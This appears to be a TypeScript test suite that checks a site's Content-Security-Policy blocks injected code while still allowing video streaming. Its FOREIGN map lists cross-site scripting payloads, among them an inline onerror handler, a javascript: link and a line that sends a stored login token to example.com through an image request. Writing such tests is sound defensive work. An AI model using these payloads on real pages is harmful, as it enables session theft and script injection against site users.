/** The Content-Security-Policy of the site (docs/decisions/037): what it refuses does not run, and fails the scenario that meets it. */
import type { H5Driver } from './driver'
import { useSite } from './site'

const site = useSite()

/** What somebody might get into a page, as code that the page runs. Each would set `window.zxRan`. */
const FOREIGN: Readonly<Record<string, string>> = {
  'a handler in markup': `document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.zxRan = 1">')`,
  'a script in place': `{ const script = document.createElement('script'); script.textContent = 'window.zxRan = 1'; document.body.append(script) }`,
  'a script of another host': `{ const script = document.createElement('script'); script.src = 'https://example.com/x.js'; document.body.append(script) }`,
  'a link that is code': `{ const link = document.createElement('a'); link.href = 'javascript:window.zxRan = 1'; document.body.append(link); link.click() }`,
  'a text that is run': `setTimeout('window.zxRan = 1')`,
  'a picture that tells another host': `new Image().src = 'https://example.com/?' + localStorage.uni_id_token`,
  'a page of another host': `{ const frame = document.createElement('iframe'); frame.src = 'https://example.com/'; document.body.append(frame) }`,
  'another base': `{ const base = document.createElement('base'); base.href = 'https://example.com/'; document.head.append(base) }`,
}

describe('what somebody got into the page', () => {
  let driver: H5Driver
  beforeAll(async () => {
    driver = site.device()
    await driver.open()
    await driver.see('章节练习')
  })
  afterAll(() => driver.close())

  test.each(Object.entries(FOREIGN))('%s is refused, and the scenario fails', async (_, code) => {
    const said = driver.tab.waitForEvent('console')
    await driver.tab.evaluate(code)
    await said
    expect(await driver.tab.evaluate('window.zxRan')).toBeUndefined()
    await expect(driver.see('章节练习')).rejects.toThrow('Content Security Policy')
    // The next one speaks for itself.
    expect(driver.problems()).toEqual([])
  })
})

test('what films need is let be: pieces of another host, and what hls.js puts them together to', async () => {
  const driver = site.device()
  await driver.open()
  await driver.see('章节练习')
  const opened = await driver.tab.evaluate(`new Promise((resolve) => {
    const source = new MediaSource()
    source.onsourceopen = () => resolve(true)
    document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective))
    fetch('https://127.0.0.1:9/live.m3u8').catch(() => undefined)
    const film = document.createElement('video')
    film.src = URL.createObjectURL(source)
    document.createElement('video').src = 'https://127.0.0.1:9/question.mp4'
  })`)
  expect(opened).toBe(true)
  await driver.see('章节练习')
  await driver.close()
})
